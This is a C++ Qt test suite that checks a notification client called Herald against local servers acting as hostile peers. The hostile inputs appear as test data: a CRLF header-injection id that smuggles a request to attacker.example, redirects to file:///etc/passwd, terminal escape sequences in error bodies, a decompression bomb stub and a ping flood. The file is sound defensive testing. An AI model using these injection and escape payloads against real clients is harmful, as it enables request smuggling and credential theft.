// Servers that attack the client, for real on 127.0.0.1: a payload id written to split the next request, redirects
// that would take the feed's credentials elsewhere or to file: and data:, answers cut short or undecodable, empty
// connections at retry: 0, and a peer that floods pings and never reads. Each gets nothing but a clear error.
#include "TestCertificate.h"
#include "TestHttpServer.h"
#include "feed/Feed.h"
#include "feed/FeedConfig.h"
#include "net/HttpFetcher.h"
#include "net/HttpFields.h"
#include "net/HttpResponse.h"
#include "sse/EventSource.h"
#include "store/HistoryStore.h"
#include "util/SafeText.h"
#include "ws/WebSocketClient.h"
#include "ws/WebSocketConnection.h"

#include <QPointer>
#include <QProcess>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <memory>

using namespace herald;
using herald::test::TestHttpServer;

namespace {

const http::Headers kCredentials{{"Authorization", "Bearer tk_SECRET"},
                                 {"Cookie", "session=SECRET"},
                                 {"Proxy-Authorization", "Basic U0VDUkVU"},
                                 {"X-Client", "herald-test"}};

void verifyNoHeaderCarries(const HttpRequest &request, const QByteArray &needle)
{
    for (const auto &[name, value] : request.headers) {
        QVERIFY2(!name.contains(needle) && !value.contains(needle), (name + ": " + value).constData());
    }
}

// OpenSSL's own s_server wanting a client certificate and checking it in the handshake, as Apache does (nginx
// answers HTTP 400 instead: see refusalBody_…). Qt's QSslSocket closes without an alert, so it cannot stand in.
class CertificateDemandingServer final
{
public:
    CertificateDemandingServer(const test::TestCertificate &certificate, QString *error)
    {
        QTcpServer probe; // a free port for s_server
        probe.listen(QHostAddress::LocalHost);
        m_port = probe.serverPort();
        probe.close();
        m_process.setProcessChannelMode(QProcess::MergedChannels);
        m_process.start(
            QStringLiteral("openssl"),
            {QStringLiteral("s_server"), QStringLiteral("-accept"), QStringLiteral("127.0.0.1:%1").arg(m_port),
             QStringLiteral("-cert"), certificate.certificatePath, QStringLiteral("-key"), certificate.keyPath,
             QStringLiteral("-CAfile"), certificate.certificatePath, QStringLiteral("-Verify"), QStringLiteral("1"),
             QStringLiteral("-verify_return_error"), QStringLiteral("-tls1_3"), QStringLiteral("-www")});
        QByteArray said;
        while (!said.contains("ACCEPT") && m_process.waitForReadyRead(10000)) {
            said += m_process.readAll();
        }
        if (!said.contains("ACCEPT")) {
            *error = QStringLiteral("openssl s_server did not start: ") + QString::fromLocal8Bit(said);
        }
    }
    ~CertificateDemandingServer()
    {
        m_process.kill();
        m_process.waitForFinished(5000);
    }
    quint16 port() const { return m_port; }

private:
    QProcess m_process;
    quint16 m_port = 0;
};

} // namespace

class TestHostileServers : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();
    void payloadIdWithLineBreaks_neverReachesARequest();
    void storedIdWithLineBreaks_isDroppedOnLoad();
    void redirectToAnotherOrigin_leavesCredentialsBehind_data();
    void redirectToAnotherOrigin_leavesCredentialsBehind();
    void redirectToAnotherScheme_failsAtOnce_data();
    void redirectToAnotherScheme_failsAtOnce();
    void answerCutShort_isAFailureNotAPayload();
    void undecodableStream_reconnects();
    void emptyConnections_backOffAndTheFeedsDelayIsTheFloor();
    void hugeRetry_isCapped();
    void pingFloodWithoutReading_isDropped();
    void serverDates_decideNothing();
    void refusalBody_isReadBoundedAndShownSafely_data();
    void refusalBody_isReadBoundedAndShownSafely();
    void clientCertificateAlert_endsWithAdvice_data();
    void clientCertificateAlert_endsWithAdvice();

private:
    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<HistoryStore> m_history;
};

void TestHostileServers::init()
{
    qRegisterMetaType<Feed::State>();
    m_dir = std::make_unique<QTemporaryDir>();
    m_history = std::make_unique<HistoryStore>();
    QVERIFY2(m_history->open(m_dir->filePath(QStringLiteral("history.sqlite"))), qPrintable(m_history->errorString()));
}

void TestHostileServers::cleanup()
{
    m_history.reset();
    m_dir.reset();
}

void TestHostileServers::payloadIdWithLineBreaks_neverReachesARequest()
{
    // ntfy-shaped JSON on an SSE stream without id: lines: the payload's id would be the resume point.
    TestHttpServer server;
    int attempt = 0;
    server.route("/events", [&](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::startStream(socket, "text/event-stream", true);
        if (attempt++ == 0) {
            TestHttpServer::send(socket,
                                 R"(data: {"id":"good1","time":1,"event":"message","topic":"t","message":"one"})"
                                 "\n\n");
            TestHttpServer::send(
                socket,
                R"(data: {"id":"x\r\nX-Injected: yes\r\n\r\nGET http://attacker.example/steal HTTP/1.1","time":2,)"
                R"("event":"message","topic":"t","message":"two"})"
                "\n\n");
            TestHttpServer::endStream(socket);
        }
    });
    FeedConfig config;
    config.name = QStringLiteral("hostile");
    config.url = server.url(QStringLiteral("/events"));
    config.transport = FeedConfig::Transport::Sse;
    config.preset = PayloadMapper::Preset::Ntfy;
    config.auth = FeedConfig::Auth::Bearer;
    Feed feed(config, m_history.get(), QStringLiteral("tk_SECRET"));
    feed.start();
    const auto stored = [this] {
        m_history->flush();
        return m_history->query({}).size();
    };
    QTRY_COMPARE(stored(), 2); // nothing lost: both messages are kept
    QTRY_COMPARE(feed.state(), Feed::State::Connecting);
    feed.reconnectNow();
    QTRY_COMPARE(server.requests("/events").size(), 2);
    const HttpRequest again = server.requests("/events").at(1);
    verifyNoHeaderCarries(again, "Injected");
    QCOMPARE(again.header("Authorization"), QByteArray("Bearer tk_SECRET"));
    QVERIFY2(!again.target.contains("attacker") && !again.target.contains("%0D"), again.target.constData());
    QCOMPARE(server.requests().size(), 2); // no second request smuggled onto the connection
    QTRY_COMPARE(m_history->lastEventId(QStringLiteral("hostile")), QStringLiteral("good1"));
}

void TestHostileServers::storedIdWithLineBreaks_isDroppedOnLoad()
{
    // Stored by a version that took any id.
    QVERIFY(m_history->setLastEventId(QStringLiteral("old"), QStringLiteral("7\r\nX-Injected: yes")));
    QCOMPARE(m_history->lastEventId(QStringLiteral("old")), QString());
    EventSource source;
    source.setLastEventId(QStringLiteral("7\r\nX-Injected: yes")); // and should one reach the transport anyway
    TestHttpServer server;
    server.route("/events", [](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::startStream(socket);
        TestHttpServer::send(socket, ": hi\n\n");
    });
    source.setUrl(server.url(QStringLiteral("/events")));
    source.setHeaders({{"X-Bad", "a\r\nX-Injected: yes"}, {"X-Good", "1"}});
    QSignalSpy opened(&source, &EventSource::opened);
    source.open();
    QVERIFY(opened.wait(5000));
    const HttpRequest request = server.requests("/events").value(0);
    verifyNoHeaderCarries(request, "Injected");
    QVERIFY(!request.hasHeader("Last-Event-ID"));
    QCOMPARE(request.header("X-Good"), QByteArray("1"));
}

void TestHostileServers::redirectToAnotherOrigin_leavesCredentialsBehind_data()
{
    QTest::addColumn<bool>("stream"); // EventSource, or HttpFetcher (polling, publishing, catch-up, send)
    QTest::addColumn<bool>("sameOrigin");
    QTest::newRow("stream, another port") << true << false;
    QTest::newRow("stream, same origin") << true << true;
    QTest::newRow("fetch, another port") << false << false;
    QTest::newRow("fetch, same origin") << false << true;
}

void TestHostileServers::redirectToAnotherOrigin_leavesCredentialsBehind()
{
    QFETCH(bool, stream);
    QFETCH(bool, sameOrigin);
    TestHttpServer home;
    TestHttpServer elsewhere;
    TestHttpServer &target = sameOrigin ? home : elsewhere;
    home.route("/old", [&](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::respond(socket, 302, {},
                                "Location: " + target.url(QStringLiteral("/new")).toEncoded() + "\r\n");
    });
    target.route("/new", [&](const HttpRequest &, QTcpSocket *socket) {
        if (stream) {
            TestHttpServer::startStream(socket);
            TestHttpServer::send(socket, "data: arrived\n\n");
        } else {
            TestHttpServer::respond(socket, 200, "arrived");
        }
    });
    if (stream) {
        EventSource source(home.url(QStringLiteral("/old")));
        source.setHeaders(kCredentials);
        QSignalSpy events(&source, &EventSource::eventReceived);
        source.open();
        QVERIFY(events.wait(5000));
    } else {
        HttpFetcher fetcher;
        fetcher.setHeaders(kCredentials);
        std::optional<HttpFetcher::Result> got;
        fetcher.get(home.url(QStringLiteral("/old")), [&](const HttpFetcher::Result &result) { got = result; });
        QTRY_VERIFY(got);
        QVERIFY2(got->error.isEmpty(), qPrintable(got->error));
        QCOMPARE(got->body, QByteArray("arrived"));
    }
    const HttpRequest arrived = target.requests("/new").value(0);
    QCOMPARE(arrived.header("X-Client"), QByteArray("herald-test"));
    for (const char *credential : {"Authorization", "Cookie", "Proxy-Authorization"}) {
        QCOMPARE(arrived.hasHeader(credential), sameOrigin);
    }
}

void TestHostileServers::redirectToAnotherScheme_failsAtOnce_data()
{
    QTest::addColumn<QByteArray>("location");
    QTest::newRow("file") << QByteArray("file:///etc/passwd");
    QTest::newRow("data") << QByteArray("data:text/event-stream,data:%20hi%0A%0A");
    QTest::newRow("ftp") << QByteArray("ftp://127.0.0.1/x");
}

void TestHostileServers::redirectToAnotherScheme_failsAtOnce()
{
    QFETCH(QByteArray, location);
    TestHttpServer server;
    server.route("/events", [&](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::respond(socket, 302, {}, "Location: " + location + "\r\n");
    });
    EventSource source(server.url(QStringLiteral("/events?auth=QUERY-TOKEN-123")));
    source.open();
    QTRY_COMPARE_WITH_TIMEOUT(source.state(), EventSource::State::Closed, 5000);
    QCOMPARE(source.error(), EventSource::Error::RedirectError);
    QVERIFY2(source.errorString().contains(QLatin1String("not an http or https address")),
             qPrintable(source.errorString()));
    QVERIFY2(!source.errorString().contains(QLatin1String("QUERY-TOKEN")), qPrintable(source.errorString()));

    HttpFetcher fetcher;
    std::optional<HttpFetcher::Result> got;
    fetcher.get(server.url(QStringLiteral("/events")), [&](const HttpFetcher::Result &result) { got = result; });
    QTRY_VERIFY(got);
    QVERIFY2(got->error.contains(QLatin1String("not an http or https address")), qPrintable(got->error));
    QVERIFY(got->permanent);
    QVERIFY(got->body.isEmpty());
}

void TestHostileServers::answerCutShort_isAFailureNotAPayload()
{
    TestHttpServer server;
    server.route("/items", [](const HttpRequest &, QTcpSocket *socket) {
        socket->write("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n"
                      "[{\"id\":1,\"title\":\"cut");
        socket->flush();
        socket->disconnectFromHost();
    });
    server.route("/bomb", [](const HttpRequest &, QTcpSocket *socket) {
        socket->write("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
                      "Content-Length: 64\r\n\r\n" +
                      QByteArray(64, '\xff'));
        socket->flush();
        socket->disconnectFromHost();
    });
    HttpFetcher fetcher;
    for (const QString &path : {QStringLiteral("/items"), QStringLiteral("/bomb")}) {
        std::optional<HttpFetcher::Result> got;
        fetcher.get(server.url(path), [&](const HttpFetcher::Result &result) { got = result; });
        QTRY_VERIFY(got);
        QCOMPARE(got->status, 200);
        QVERIFY2(got->error.contains(QLatin1String("did not arrive whole")), qPrintable(path + u' ' + got->error));
        QVERIFY(got->body.isEmpty());
        QVERIFY(!got->permanent); // asked again later
    }
}

void TestHostileServers::undecodableStream_reconnects()
{
    TestHttpServer server;
    server.route("/events", [](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::startStream(socket, "text/event-stream", false, "Content-Encoding: gzip\r\n");
        TestHttpServer::send(socket, QByteArray(4096, '\xff')); // not gzip at all
    });
    EventSource source(server.url(QStringLiteral("/events")));
    source.setReconnectionTime(50);
    QSignalSpy scheduled(&source, &EventSource::reconnectScheduled);
    source.open();
    QVERIFY2(scheduled.wait(5000), "a stream Qt cannot decode must not stay open for ever");
    QTRY_VERIFY(server.requests("/events").size() >= 2);
}

void TestHostileServers::emptyConnections_backOffAndTheFeedsDelayIsTheFloor()
{
    TestHttpServer server;
    server.route("/events", [](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::startStream(socket, "text/event-stream", true);
        TestHttpServer::send(socket, "retry: 0\n\n");
        TestHttpServer::endStream(socket);
    });
    {
        EventSource source(server.url(QStringLiteral("/events")));
        QSignalSpy scheduled(&source, &EventSource::reconnectScheduled);
        source.open();
        QTRY_COMPARE_WITH_TIMEOUT(scheduled.size(), 5, 5000);
        source.close();
        QList<int> delays;
        for (const auto &arguments : std::as_const(scheduled)) {
            delays.append(arguments.at(0).toInt());
        }
        QCOMPARE(delays, (QList<int>{0, 20, 40, 80, 160})); // retry: 0 honoured once, then growing
    }
    {
        EventSource source(server.url(QStringLiteral("/events")));
        source.setMinReconnectDelay(300); // the feed's own delay
        QSignalSpy scheduled(&source, &EventSource::reconnectScheduled);
        source.open();
        QVERIFY(scheduled.wait(5000));
        QCOMPARE(scheduled.at(0).at(0).toInt(), 300);
    }
}

void TestHostileServers::hugeRetry_isCapped()
{
    TestHttpServer server;
    server.route("/events", [](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::startStream(socket, "text/event-stream", true);
        TestHttpServer::send(socket, "retry: 2147483647\ndata: hi\n\n");
        TestHttpServer::endStream(socket);
    });
    EventSource source(server.url(QStringLiteral("/events")));
    source.setMaxReconnectDelay(250);
    QSignalSpy scheduled(&source, &EventSource::reconnectScheduled);
    source.open();
    QVERIFY(scheduled.wait(5000));
    QCOMPARE(scheduled.at(0).at(0).toInt(), 250);
}

void TestHostileServers::pingFloodWithoutReading_isDropped()
{
    // The server pings as fast as it can and never reads: every pong would wait in memory.
    TestHttpServer server;
    QPointer<QTcpSocket> peer;
    qint64 sent = 0;
    server.route("/ws", [&](const HttpRequest &request, QTcpSocket *socket) {
        TestHttpServer::acceptWebSocket(socket, request);
        QObject::disconnect(socket, &QTcpSocket::readyRead, nullptr, nullptr);
        socket->setReadBufferSize(4096); // Qt stops reading once this much waits: the client's writes back up
        peer = socket;
        QByteArray pings;
        for (int i = 0; i < 2000; ++i) {
            pings += QByteArray("\x89\x7d", 2) + QByteArray(125, 'p');
        }
        auto *flood = new QTimer(socket);
        QObject::connect(flood, &QTimer::timeout, socket, [&sent, socket, pings, flood] {
            if (sent >= 128 * 1024 * 1024) { // bounded: far past the client's limit
                flood->stop();
            } else if (socket->bytesToWrite() < 1024 * 1024) {
                sent += socket->write(pings);
            }
        });
        flood->start(0);
    });
    WebSocketClient client(QUrl(QStringLiteral("ws://127.0.0.1:%1/ws").arg(server.port())));
    client.setReconnectEnabled(false);
    client.setPingInterval(0);
    QSignalSpy failed(&client, &WebSocketClient::errorOccurred);
    client.open();
    QVERIFY(failed.wait(60000));
    const QString message = failed.at(0).at(1).toString();
    QVERIFY2(message.contains(QLatin1String("stopped reading")), qPrintable(message));
    QVERIFY2(sent > WebSocketConnection::kMaxUnwritten, "the flood was large enough to need the limit");
}

void TestHostileServers::refusalBody_isReadBoundedAndShownSafely_data()
{
    QTest::addColumn<QString>("transport"); // sse, ws or poll
    QTest::addColumn<QByteArray>("answer"); // what the server writes; it closes after it only when "close" is set
    QTest::addColumn<bool>("close");
    QTest::addColumn<QString>("messagePart");

    const QByteArray nginxPage = "<html>\r\n<head><title>400 No required SSL certificate was sent</title></head>\r\n"
                                 "<body>\r\n<center><h1>400 Bad Request</h1></center>\r\n<center>No required SSL "
                                 "certificate was sent</center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>"
                                 "\r\n</html>\r\n";
    const QByteArray head = http::statusLine(400) + "Server: nginx/1.22.1\r\nContent-Type: text/html\r\n";
    const QByteArray withLength = head + "Content-Length: " + QByteArray::number(nginxPage.size()) + "\r\n\r\n";
    const QString wanted = QStringLiteral(
        "HTTP 400 Bad Request (\"No required SSL certificate was sent\"): the server wants a TLS client certificate");
    const QByteArray hostile = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;owned\x07say \u202Egnp.exe\r\nHeader: x";
    const QByteArray hostileAnswer =
        http::statusLine(404) + "Content-Type: text/plain\r\nContent-Length: " + QByteArray::number(hostile.size()) +
        "\r\n\r\n" + hostile;
    const QByteArray flood = http::statusLine(403) + "Content-Type: text/plain\r\n\r\n" + QByteArray(4 << 20, 'A');
    const QByteArray stalled = http::statusLine(404) + "Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\n"
                                                       "not all of it";
    for (const QString &transport : {QStringLiteral("sse"), QStringLiteral("ws")}) {
        const auto row = [&](const char *name) -> QTestData & {
            return QTest::newRow(qPrintable(transport + QLatin1Char(' ') + QLatin1String(name))) << transport;
        };
        row("nginx, length") << withLength + nginxPage << false << wanted;
        row("nginx, closed") << head + "\r\n" + nginxPage << true << wanted;
        row("nginx, slowly") << withLength + nginxPage.first(40) << false << QStringLiteral("HTTP 400 Bad Request");
        row("terminal escapes") << hostileAnswer << false
                                << QStringLiteral("\"]52;c;ZXZpbA==[2J]0;ownedsay gnp.exe Header: x\"");
        row("endless body") << flood << false << QStringLiteral("\"AAAAAAAA");
        row("body that stalls") << stalled << false << QStringLiteral("HTTP 404 Not Found (\"not all of it\")");
    }
    QTest::newRow("poll nginx") << QStringLiteral("poll") << withLength + nginxPage << false
                                << QStringLiteral("HTTP 400 Bad Request from 127.0.0.1:");
    QTest::newRow("poll nginx, advice") << QStringLiteral("poll") << withLength + nginxPage << false
                                        << QStringLiteral("(\"No required SSL certificate was sent\"): the server "
                                                          "wants a TLS client certificate");
    QTest::newRow("ws nginx, chunked") << QStringLiteral("ws")
                                       << head + "Transfer-Encoding: chunked\r\n\r\n" +
                                              http::chunk(nginxPage.first(50)) + http::chunk(nginxPage.sliced(50)) +
                                              http::kLastChunk
                                       << false << wanted;
}

void TestHostileServers::refusalBody_isReadBoundedAndShownSafely()
{
    QFETCH(QString, transport);
    QFETCH(QByteArray, answer);
    QFETCH(bool, close);
    QFETCH(QString, messagePart);

    // What a server writes under an error status is its to choose: Herald shows a short line of it, never a
    // terminal escape or a line break, never waits long for it and never keeps more than a few KiB.
    TestHttpServer server;
    server.route("/feed", [&](const HttpRequest &, QTcpSocket *socket) {
        socket->write(answer);
        if (close) {
            socket->disconnectFromHost();
        }
    });
    QString message;
    if (transport == QLatin1String("poll")) {
        HttpFetcher fetcher;
        std::optional<HttpFetcher::Result> got;
        fetcher.get(server.url(QStringLiteral("/feed")), [&](const HttpFetcher::Result &result) { got = result; });
        QTRY_VERIFY_WITH_TIMEOUT(got.has_value(), 10000);
        message = got->error;
        // A poll that asks again gets the same answer: a client certificate wanted is no reason to keep asking.
        if (messagePart.contains(QLatin1String("client certificate"))) {
            QVERIFY(got->permanent);
        }
    } else if (transport == QLatin1String("sse")) {
        EventSource source(server.url(QStringLiteral("/feed")));
        QSignalSpy errors(&source, &EventSource::errorOccurred);
        source.open();
        QVERIFY(errors.wait(10000));
        QCOMPARE(source.state(), EventSource::State::Closed);
        message = source.errorString();
    } else {
        WebSocketClient client(QUrl(QStringLiteral("ws://127.0.0.1:%1/feed").arg(server.port())));
        QSignalSpy errors(&client, &WebSocketClient::errorOccurred);
        client.open();
        QVERIFY(errors.wait(10000));
        QCOMPARE(client.state(), WebSocketClient::State::Closed);
        message = client.errorString();
    }
    QVERIFY2(message.contains(messagePart), qPrintable(message));
    QVERIFY2(message.size() < 400, qPrintable(message));
    for (const QChar c : message) {
        QVERIFY2(!isHiddenCharacter(c.unicode()), qPrintable(message));
    }
}

void TestHostileServers::clientCertificateAlert_endsWithAdvice_data()
{
    QTest::addColumn<QString>("scheme");
    QTest::newRow("sse") << QStringLiteral("https");
    QTest::newRow("ws") << QStringLiteral("wss");
}

void TestHostileServers::clientCertificateAlert_endsWithAdvice()
{
#ifdef Q_OS_WIN
    // Schannel reports a peer's alerts in words of its own, which tlsAlertAdvice does not read (nginx's answer,
    // refusalBody_…, is read everywhere); and Wine's has no TLS 1.3 to get this alert with.
    QSKIP("the TLS alert is read in OpenSSL's words only");
#endif
    QFETCH(QString, scheme);
    QTemporaryDir dir;
    QString error;
    const auto certificate = test::makeSelfSignedCertificate(dir, QStringLiteral("IP:127.0.0.1"), &error);
    QVERIFY2(certificate, qPrintable(error));
    CertificateDemandingServer server(*certificate, &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    const QUrl url(QStringLiteral("%1://127.0.0.1:%2/feed").arg(scheme).arg(server.port()));
    QSslConfiguration trusting = QSslConfiguration::defaultConfiguration();
    trusting.addCaCertificate(certificate->certificate);

    QString message;
    if (scheme == QLatin1String("https")) {
        EventSource source(url);
        source.setSslConfiguration(trusting);
        QSignalSpy errors(&source, &EventSource::errorOccurred);
        source.open();
        QVERIFY(errors.wait(10000));
        QCOMPARE(source.state(), EventSource::State::Closed); // retrying cannot help until a certificate is given
        message = source.errorString();
    } else {
        WebSocketClient client(url);
        client.setSslConfiguration(trusting);
        QSignalSpy errors(&client, &WebSocketClient::errorOccurred);
        client.open();
        QVERIFY(errors.wait(10000));
        QCOMPARE(client.state(), WebSocketClient::State::Closed);
        message = client.errorString();
    }
    QVERIFY2(message.contains(QLatin1String("certificate required: the server wants a TLS client certificate; give "
                                            "it one (herald listen --client-cert FILE.p12")),
             qPrintable(message));
}

QTEST_GUILESS_MAIN(TestHostileServers)
#include "tst_hostile_servers.moc"

void TestHostileServers::serverDates_decideNothing()
{
    // ntfy's "time" is the server's to choose: 2023, the year 2100, now. Retention keeps 30 days.
    TestHttpServer server;
    server.route("/events", [&](const HttpRequest &, QTcpSocket *socket) {
        TestHttpServer::startStream(socket, "text/event-stream", false);
        const QByteArray now = QByteArray::number(QDateTime::currentSecsSinceEpoch());
        TestHttpServer::send(socket, R"(data: {"id":"a","time":)" + now +
                                         R"(,"event":"message","topic":"t","message":"first"})"
                                         "\n\n");
        TestHttpServer::send(socket, R"(data: {"id":"b","time":1672531200,"event":"message","topic":"t",)"
                                     R"("message":"dated 2023"})"
                                     "\n\n");
        TestHttpServer::send(socket, R"(data: {"id":"c","time":4102444800,"event":"message","topic":"t",)"
                                     R"("message":"dated 2100"})"
                                     "\n\n");
        TestHttpServer::send(socket, R"(data: {"id":"d","time":)" + now +
                                         R"(,"event":"message","topic":"t","message":"last"})"
                                         "\n\n");
    });
    m_history->setRetention(0, 30);
    QSignalSpy stored(m_history.get(), &HistoryStore::stored);
    FeedConfig config;
    config.name = QStringLiteral("dates");
    config.url = server.url(QStringLiteral("/events"));
    config.transport = FeedConfig::Transport::Sse;
    config.preset = PayloadMapper::Preset::Ntfy;
    Feed feed(config, m_history.get());
    feed.start();
    const auto count = [this] {
        m_history->flush();
        return m_history->count();
    };
    QTRY_COMPARE(count(), 4); // the one dated 2023 is not pruned the moment it is stored

    QStringList bodies;
    QSet<qint64> rowIds;
    for (const StoredMessage &message : m_history->query({})) {
        bodies.append(message.message.body);
        rowIds.insert(message.rowId);
    }
    // Newest first by arrival, whatever the servers dates say.
    QCOMPARE(bodies, (QStringList{QStringLiteral("last"), QStringLiteral("dated 2100"), QStringLiteral("dated 2023"),
                                  QStringLiteral("first")}));
    QCOMPARE(rowIds.size(), 4); // each its own row, so each popup its own key
    const StoredMessage dated2023 = m_history->query({}).at(2);
    QCOMPARE(dated2023.message.time.date().year(), 2023); // kept as what the server said
    QVERIFY(dated2023.message.received.secsTo(QDateTime::currentDateTimeUtc()) < 3600);
}
